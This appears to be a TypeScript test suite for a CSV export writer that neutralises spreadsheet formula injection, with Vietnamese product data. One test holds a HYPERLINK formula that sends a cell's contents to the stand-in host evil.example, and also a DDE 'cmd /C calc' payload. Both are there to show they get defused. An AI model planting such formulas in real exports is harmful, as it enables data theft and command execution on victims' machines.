import { parse } from 'csv-parse/sync';
import { writeCsv } from './csv-writer';

const BOM = '\uFEFF';
/** The cells as any RFC 4180 reader (here csv-parse) sees them. */
const read = (text: string, delimiter = ',') =>
  parse(text, { bom: true, delimiter, relax_column_count: true }) as string[][];

describe('writeCsv (the one CSV writer)', () => {
  it.each([
    ['=', '=1+2', "'=1+2"],
    ['+', '+84 275 3822 123', "'+84 275 3822 123"],
    ['-', '-2+3', "'-2+3"],
    ['@', '@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['tab', '\t=1+2', "'\t=1+2"],
    ['carriage return', '\r=1+2', "'\r=1+2"],
    ['full-width =', '\uFF1D1+2', "'\uFF1D1+2"],
    ['full-width @', '\uFF20SUM(A1)', "'\uFF20SUM(A1)"],
    ['blanks then =', '  =1+2', "'  =1+2"],
    ['line feed then @', '\n@SUM(A1)', "'\n@SUM(A1)"],
  ])('neutralises a string starting with %s', (_, value, cell) => {
    const [[got]] = read(writeCsv([[value]]));
    expect(got).toBe(cell);
  });

  it('neutralises the cells a producer planted in an officer’s export, keeping them readable', () => {
    const link = '=HYPERLINK("http://evil.example/?leak="&A2,"Xem chi tiết")';
    const text = writeCsv([
      ['Sản phẩm / Product', 'Chủ thể / Producer'],
      [link, "@SUM(1+1)*cmd|' /C calc'!A0"],
    ]);
    expect(text).toBe(
      `${BOM}Sản phẩm / Product,Chủ thể / Producer\r\n` +
        `"'=HYPERLINK(""http://evil.example/?leak=""&A2,""Xem chi tiết"")",'@SUM(1+1)*cmd|' /C calc'!A0\r\n`,
    );
    expect(read(text)[1]).toEqual([`'${link}`, "'@SUM(1+1)*cmd|' /C calc'!A0"]);
  });

  it('writes the platform’s own numbers as numbers, negative ones included; only strings are neutralised', () => {
    expect(writeCsv([[-3, '-3', 0, 4.5, true, false]])).toBe(`${BOM}-3,'-3,0,4.5,true,false\r\n`);
  });

  it('leaves ordinary text alone, a dash or at-sign inside it included', () => {
    expect(writeCsv([['Kẹo dừa - Bến Tre', 'lienhe@chanhthu.vn', 'KD-2611', '2027-05-31']])).toBe(
      `${BOM}Kẹo dừa - Bến Tre,lienhe@chanhthu.vn,KD-2611,2027-05-31\r\n`,
    );
  });

  it('quotes delimiters, quotes, line breaks and edge blanks, and writes null as an empty cell', () => {
    const rows = [
      ['tên', 'ghi chú', 'trống'],
      ['Bưởi "da xanh"', 'ngọt, béo', null],
      ['hai\ndòng', 'ba\r\ndòng', undefined],
      [' lề trái', 'lề phải ', ''],
      ['cr\rgiữa', 'Sầu riêng Ri6 – Chợ Lách', 'Cà phê sữa đá'],
    ];
    const text = writeCsv(rows);
    expect(text).toBe(
      `${BOM}tên,ghi chú,trống\r\n` +
        `"Bưởi ""da xanh""","ngọt, béo",\r\n` +
        `"hai\ndòng","ba\r\ndòng",\r\n` +
        `" lề trái","lề phải ",\r\n` +
        `"cr\rgiữa",Sầu riêng Ri6 – Chợ Lách,Cà phê sữa đá\r\n`,
    );
    expect(read(text)).toEqual(rows.map((row) => row.map((v) => v ?? '')));
  });

  it('writes ";"-separated files for Vietnamese Excel, quoting ";" instead of ","', () => {
    const text = writeCsv(
      [
        ['a;b', '1,5'],
        ['=1;2', 'x'],
      ],
      { delimiter: ';' },
    );
    expect(text).toBe(`${BOM}"a;b";1,5\r\n"'=1;2";x\r\n`);
    expect(read(text, ';')).toEqual([
      ['a;b', '1,5'],
      ["'=1;2", 'x'],
    ]);
  });

  it('leaves out the byte order mark for the later parts of a file written in parts', () => {
    expect(writeCsv([['seq', 'lot']])).toBe(`${BOM}seq,lot\r\n`);
    expect(writeCsv([[1, '=A1']], { bom: false })).toBe(`1,'=A1\r\n`);
  });
});
